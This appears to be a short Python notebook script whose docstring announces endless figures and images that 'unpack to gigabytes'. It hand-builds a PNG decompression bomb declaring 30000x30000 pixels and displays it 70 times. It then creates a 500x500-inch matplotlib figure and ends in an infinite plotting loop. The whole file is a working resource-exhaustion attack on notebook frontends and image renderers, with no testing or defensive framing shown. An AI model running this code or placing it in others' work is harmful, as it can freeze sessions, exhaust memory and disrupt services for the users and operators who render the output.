"""Draws figures without end, of sizes without end, and shows pictures that unpack to gigabytes."""
# %%
import struct, zlib, matplotlib.pyplot as plt
from IPython.display import Image, display
def chunk(kind, data): return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 30000, 30000, 8, 0, 0, 0, 0))
bomb += chunk(b"IDAT", zlib.compress(b"\0" * 10**6)) + chunk(b"IEND", b"")
for _ in range(70):
    display(Image(data=bomb))
# %%
plt.figure(figsize=(500, 500)).add_subplot().plot([1])
plt.show()
# %%
while True:
    plt.plot([1, 2])
    plt.show()
